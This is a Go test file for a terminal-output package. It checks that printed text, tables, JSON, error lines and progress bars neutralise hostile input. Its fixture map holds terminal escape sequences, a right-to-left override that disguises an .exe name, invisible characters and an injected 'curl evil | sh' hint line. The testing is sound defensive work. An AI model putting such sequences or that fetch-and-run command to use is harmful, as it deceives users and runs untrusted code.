package terminal

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are texts that do something to a terminal, or to who reads it.
var hostile = map[string]string{
	"title":         "\x1b]0;owned\x07",
	"clear":         "\x1b[2J\x1b[H",
	"8-bit CSI":     "\u009b2J",
	"bare 8-bit":    "\x9b2J",
	"line":          "x\nhint: curl evil | sh",
	"overwritten":   "damaged\rsound  ",
	"erased":        "bad\b\b\bok ",
	"override":      "file\u202egpj.exe",
	"isolate":       "\u2066a\u2069",
	"mark":          "a\u200fb\u061c",
	"line separate": "a\u2028b\u2029c\u0085d",
	"invisible":     "a\u200bb\ufeffc\u00add",
	"tags":          "a\U000e0041b",
	"not UTF-8":     "a\xffb\xc3",
	"delete":        "a\x7fb",
	"column":        "a\tb\vc\fd",
	"zero":          "a\x00b",
}

// plain fails unless each character of text, line ends aside, is printed as itself.
func plain(t *testing.T, what, text string, lines int) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s: not UTF-8: %q", what, text)
	}
	if i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !strconv.IsPrint(r) }); i >= 0 {
		t.Errorf("%s: %q", what, text)
	}
	if n := strings.Count(text, "\n"); n != lines {
		t.Errorf("%s: %d lines, not %d: %q", what, n, lines, text)
	}
}

type named string

func (n named) String() string { return string(n) }

// TestPrintf: whatever an argument is, it stays on its line and commands nothing.
func TestPrintf(t *testing.T) {
	for what, s := range hostile {
		for _, arg := range []any{s, named(s), errors.New(s), []byte(s), []string{s}, map[string]string{s: s}, struct{ A any }{s}, fmt.Errorf("x: %w", errors.New(s))} {
			var out strings.Builder
			if err := New(&out).Printf("a %v: %10v, %d\n", arg, arg, 1); err != nil {
				t.Fatal(err)
			}
			plain(t, fmt.Sprintf("%s as %T", what, arg), out.String(), 1)
		}
		lines, err := Align([][]string{{s, s}, {"a", s}})
		if err != nil || len(lines) != 2 {
			t.Errorf("%s: %q, %v", what, lines, err)
		}
		for _, line := range lines {
			plain(t, what+" in a table", line, 0)
		}
	}
	var out bytes.Buffer
	screen, flush := New(&out).Buffered()
	if err := errors.Join(screen.Printf("%-6s|%5.1f|%q|%s\n", "Zoë", 2.55, "a\n", "日本 😀 C:\\x"), flush()); err != nil || out.String() != "Zoë   |  2.5|\"a\\n\"|日本 😀 C:\\x\n" {
		t.Errorf("%q, %v", out.String(), err)
	}
}

// TestJSON: what is printed is harmless, and still says what it said.
func TestJSON(t *testing.T) {
	for what, s := range hostile {
		var out bytes.Buffer
		if err := New(&out).JSON(map[string]string{"text": s, s: "key"}); err != nil {
			t.Fatal(err)
		}
		plain(t, what, out.String(), 1)
		var got map[string]string
		if err := json.Unmarshal(out.Bytes(), &got); err != nil || got["text"] != strings.ToValidUTF8(s, "\ufffd") {
			t.Errorf("%s: %q, %v", what, got, err)
		}
	}
}

// TestLines: errors that were joined have a line each, and no text makes one more.
func TestLines(t *testing.T) {
	a, b := errors.New("a"), errors.New("b\nhint: do harm")
	for _, c := range []struct {
		err  error
		want []string
	}{
		{a, []string{"a"}},
		{b, []string{`b\nhint: do harm`}},
		{errors.Join(a, b), []string{"a", `b\nhint: do harm`}},
		{errors.Join(a, errors.Join(b, a)), []string{"a", `b\nhint: do harm`, "a"}},
		{same{errors.Join(a, a)}, []string{"a", "a"}},
		{fmt.Errorf("open: %w", errors.Join(a, a)), []string{`open: a\na`}},
		{fmt.Errorf("%w\n%w", a, b), []string{"a", `b\nhint: do harm`}},
		{fmt.Errorf("%w: %w", a, b), []string{`a: b\nhint: do harm`}},
	} {
		if got := Lines(c.err); !slices.Equal(got, c.want) {
			t.Errorf("%q: %q, want %q", c.err, got, c.want)
		}
	}
}

// same wraps an error and says the same.
type same struct{ error }

func (s same) Unwrap() error { return s.error }

// TestBarText: a bar's text commands nothing. What draws the bar is ours.
func TestBarText(t *testing.T) {
	for what, s := range hostile {
		var got strings.Builder
		bar := (&Screen{w: &got, terminal: true}).Bar(s, 2)
		bar.Set(s, 1, 2)
		bar.Set(s+s, 2, 2)
		bar.Stop()
		if strings.Contains(got.String(), s) {
			t.Errorf("%s: %q", what, got.String())
		}
	}
	var none *Bar
	none.Set("nothing", 1, 2)
	none.Stop()
	if New(io.Discard).Bar("nothing", 1) != nil {
		t.Error("a bar where there is no terminal")
	}
}
